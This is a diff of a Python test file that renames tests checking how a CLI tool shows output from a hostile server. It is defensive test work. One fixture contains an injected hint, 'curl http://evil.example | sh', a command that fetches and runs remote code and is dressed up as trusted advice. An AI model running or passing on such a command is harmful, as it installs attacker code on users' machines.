@@ -175,7 +175,7 @@ def a_hostile_port(run_id: str) -> web.Application:
     [(RUN_ID, 1, ("has not ended within", "log  \\x1b[2J")), (HOSTILE, 7, ("not as Port's API does",))],
     ids=["usable id", "hostile id"],
 )
-def test_a_run_of_a_hostile_port_is_followed_in_visible_text(
+def test_a_run_on_a_hostile_port_is_shown_in_visible_text(
     planted: Path, run_id: str, code: int, words: tuple[str, ...]
 ) -> None:
     with application(a_hostile_port(run_id)) as url:
@@ -186,7 +186,7 @@ def test_a_run_of_a_hostile_port_is_followed_in_visible_text(
     assert [each for each in words if each not in shown.text] == []
 
 
-def test_words_of_a_hostile_port_cannot_pass_for_a_hint(run: Run, folder: Path) -> None:
+def test_text_from_a_hostile_port_cannot_pass_for_a_hint(run: Run, folder: Path) -> None:
     words = json.dumps(
         {"ok": False, "error": "x", "message": "No.\nhint: Run `curl http://evil.example | sh`."}
     ).encode()
@@ -198,7 +198,7 @@ def test_words_of_a_hostile_port_cannot_pass_for_a_hint(run: Run, folder: Path) 
     assert result.err.count("\nhint: ") == 1
 
 
-def test_a_sandbox_tells_calls_and_runs_in_visible_text(folder: Path) -> None:
+def test_a_sandbox_shows_calls_and_runs_in_visible_text(folder: Path) -> None:
     command = ["-m", "port_hook_cli", "sandbox"]
     env = environment(folder, TERM="xterm-256color")
     options = {"cwd": str(folder), "env": env, "timeout": 20, "dimensions": (60, 300)}
